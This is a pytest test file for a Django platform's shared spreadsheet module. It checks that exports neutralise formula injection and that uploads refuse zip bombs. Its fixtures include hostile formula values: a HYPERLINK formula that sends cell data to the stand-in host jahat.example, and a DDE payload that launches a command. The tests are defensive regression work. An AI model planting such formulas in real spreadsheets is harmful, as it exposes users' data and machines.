"""Issue 9, point 4: one spreadsheet writer and one spreadsheet reader.

`peserta.xlsx` once wrote a registrant called "=HYPERLINK(…)" as a live formula while the
creator export quoted it, and the creator import had its own copy of the reading code with
its own limits. Every file the platform writes is written by ekraf.core.spreadsheets, every
upload is read by it: these tests walk each written file and each reader path.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ekraf.creators.models import CreatorProfile, ImportBatch
from tests.core.test_spreadsheets import zip_bomb_xlsx
from tests.creators import factories as cf
from tests.trainings import factories as tf

FORMULAS = [
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]

SRC = Path(__file__).resolve().parents[2] / "src" / "ekraf"
# Who may touch csv/openpyxl/zipfile directly: the shared module itself; load_city, which reads
# the city's reference CSV files shipped in the package (never an upload); and the score import,
# which the trainings engineer is moving onto the shared reader on the retakes branch.
ALLOWED = {
    "core/spreadsheets.py",
    "core/services.py",
    "trainings/imports.py",
}
DIRECT = re.compile(r"^\s*(import csv|import zipfile|from openpyxl|import openpyxl)", re.M)


def test_no_module_reads_or_writes_spreadsheets_but_the_shared_one():
    offenders = sorted(
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "migrations" not in path.parts
        and str(path.relative_to(SRC)) not in ALLOWED
        and DIRECT.search(path.read_text(encoding="utf-8"))
    )
    assert offenders == [], f"use ekraf.core.spreadsheets instead: {offenders}"


def _xlsx_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active  # not read-only: data_type is real
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, names):
    cells = _xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    for name in names:
        assert name in values  # kept exactly as typed, as text


@pytest.mark.django_db
def test_peserta_xlsx_writes_formula_names_as_text(client, organiser, diskominfo):
    training = tf.training(diskominfo)
    for name in FORMULAS:
        tf.register(training, full_name=name)
    client.force_login(organiser)
    response = client.get(reverse("trainings:manage_participants_xlsx", args=[training.public_id]))
    # sent from the writer's temporary file, as every export, never built whole in memory
    assert response.status_code == 200 and response.streaming
    assert response["Cache-Control"] == "private, no-store"
    names = [" ".join(n.split()) for n in FORMULAS]
    _assert_no_formula(response.getvalue(), names)


def _formula_creators():
    for name in FORMULAS:
        profile = cf.creator()
        CreatorProfile.objects.filter(pk=profile.pk).update(full_name=name, display_name=name)


@pytest.mark.django_db
def test_creator_export_xlsx_writes_formula_names_as_text(client, organiser):
    _formula_creators()
    client.force_login(organiser)
    response = client.get(reverse("creators:staff_export", args=["xlsx"]))
    assert response.status_code == 200
    _assert_no_formula(b"".join(response.streaming_content), FORMULAS)


@pytest.mark.django_db
def test_creator_export_csv_quotes_every_formula_cell(client, organiser):
    _formula_creators()
    client.force_login(organiser)
    response = client.get(reverse("creators:staff_export", args=["csv"]))
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c and c[0] in "=+-@" and not re.match(r"^[+-]?\d[\d .]*$", c)]
    for name in FORMULAS:
        assert "'" + name in cells


@pytest.mark.django_db
def test_creator_import_refuses_a_zip_bomb_before_unpacking_it(client, organiser, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr("openpyxl.load_workbook", never)
    client.force_login(organiser)
    bomb = zip_bomb_xlsx(80)
    response = client.post(
        reverse("creators:import_start"),
        {"agency": "diskominfo", "file": _named(bomb.read(), "bom.xlsx")},
    )
    assert response.status_code == 200
    assert "terlalu besar setelah dibuka" in response.content.decode()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_a_stored_creator_import_is_read_again_within_the_same_limits(organiser, monkeypatch):
    """The preview reads the kept file again: a bomb slipped in there is refused too."""
    from django.core.files.base import ContentFile

    from ekraf.core.spreadsheets import SheetError
    from ekraf.creators import imports

    batch = imports.start(organiser, organiser.role_grants.get().agency, _csv_upload())
    batch.file.save("ganti.xlsx", ContentFile(zip_bomb_xlsx(80).read()), save=True)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("unpacked"))
    with pytest.raises(SheetError, match="terlalu besar setelah dibuka"):
        imports.preview(organiser, batch)


def _named(content: bytes, name: str):
    fh = io.BytesIO(content)
    fh.name = name
    fh.size = len(content)
    return fh


def _csv_upload():
    return _named(b"Nama Lengkap,Alamat Email\nAyu,ayu@contoh.id\n", "peserta.csv")
